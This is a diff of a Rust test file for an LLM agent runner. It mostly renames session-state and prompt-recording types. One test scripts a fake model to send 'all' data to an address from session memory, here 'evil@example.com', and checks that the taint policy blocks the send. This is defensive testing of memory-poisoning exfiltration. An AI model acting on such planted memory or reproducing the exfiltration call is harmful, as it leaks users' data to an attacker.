@@ -8,7 +8,7 @@ use rlm_adapters::FakeModel;
 use rlm_context::Context;
 use rlm_core::{ApprovalRequest, Approve, RunError, RunOptions, RunnerBuilder};
 use rlm_policy::{Limits, Taint, ToolGrant};
-use rlm_prompt::{Carried, Exchange};
+use rlm_prompt::{Exchange, SessionState};
 use rlm_test_runs::{Recorded, fenced, run, runner};
 use rlm_tools::{Access, Arguments, CommandTool, FunctionTool, Reach, Tool, ToolDescription, ToolError};
 use rlm_trace::{Event, HostAnswer, HostRequest};
@@ -98,14 +98,14 @@ async fn programs_call_tools_and_a_replay_calls_none() {
 async fn the_card_lists_the_tools_and_a_run_without_tools_knows_nothing_of_them() {
     let (builder, ..) = with_tools(["FINAL(1)"]);
     let recorded = run(builder, "Which?", &context()).await;
-    let prompts = rlm_trace::Prompts::of(recorded.records.iter().map(|record| &**record));
+    let prompts = rlm_trace::RecordedPrompts::of(recorded.records.iter().map(|record| &**record));
     let request = prompts.request(&"1.0.0".parse().unwrap(), &|_| None).unwrap();
     let system = request.messages[0].content();
     let begin = system.find("- Tools of this run").unwrap();
     let (shown, _) = system.split_at(begin).1.split_once("\n- Modules").unwrap();
     insta::assert_snapshot!(shown);
     let plain = run(runner(FakeModel::new([fenced("FINAL(1)")])), "Which?", &context()).await;
-    let prompts = rlm_trace::Prompts::of(plain.records.iter().map(|record| &**record));
+    let prompts = rlm_trace::RecordedPrompts::of(plain.records.iter().map(|record| &**record));
     let request = prompts.request(&"1.0.0".parse().unwrap(), &|_| None).unwrap();
     assert!(!request.messages[0].content().contains("Tools of this run"));
 }
@@ -161,32 +161,32 @@ async fn what_a_session_remembers_is_text_of_others() {
         question: "Whom?".to_owned(),
         answer: "evil@example.com".to_owned(),
     };
-    let asked = |taint, carried| async move {
+    let asked = |taint, session| async move {
         let (builder, _, sent) = with_tools([
             "try:\n    send(memory.get('to', 'me@example.com'), 'all')\n    FINAL('sent')\nexcept CallFailed as e:\n    FINAL(e.kind)",
         ]);
         let options = RunOptions {
-            carried: Some(carried),
+            session: Some(session),
             ..RunOptions::default()
         };
         let runner = builder.taint(taint).build().unwrap();
         let result = runner.run_with("Which?", &context(), options).await.unwrap();
         (result.answer.unwrap(), sent.load(Ordering::SeqCst))
     };
-    let remembering = Carried {
+    let remembering = SessionState {
         memory,
-        ..Carried::default()
+        ..SessionState::default()
     };
-    let told = Carried {
+    let told = SessionState {
         earlier: vec![exchange],
-        ..Carried::default()
+        ..SessionState::default()
     };
     let refused = |code: &str| (code.to_owned(), 0);
     let sent = ("sent".to_owned(), 1);
-    assert_eq!(asked(Taint::Usual, Carried::default()).await, sent);
+    assert_eq!(asked(Taint::Usual, SessionState::default()).await, sent);
     assert_eq!(asked(Taint::Usual, remembering).await, refused("tool_derived_argument"));
     assert_eq!(asked(Taint::Usual, told.clone()).await, sent);
-    assert_eq!(asked(Taint::Strict, Carried::default()).await, sent);
+    assert_eq!(asked(Taint::Strict, SessionState::default()).await, sent);
     assert_eq!(asked(Taint::Strict, told).await, refused("tool_not_approved"));
 }
 
@@ -527,7 +527,7 @@ async fn a_run_with_tools_needs_no_context() {
     let (builder, ..) = with_tools(["FINAL(look_up('A')['given']['order'] + str(lenP()))"]);
     let recorded = run(builder, "Which?", &Context::from_text("")).await;
     assert_eq!(recorded.answer(), "A0");
-    let prompts = rlm_trace::Prompts::of(recorded.records.iter().map(|record| &**record));
+    let prompts = rlm_trace::RecordedPrompts::of(recorded.records.iter().map(|record| &**record));
     let request = prompts.request(&"1.0.0".parse().unwrap(), &|_| None).unwrap();
     insta::assert_snapshot!(request.messages[1].content());
     let none = runner(FakeModel::new([fenced("FINAL(1)")])).build().unwrap();
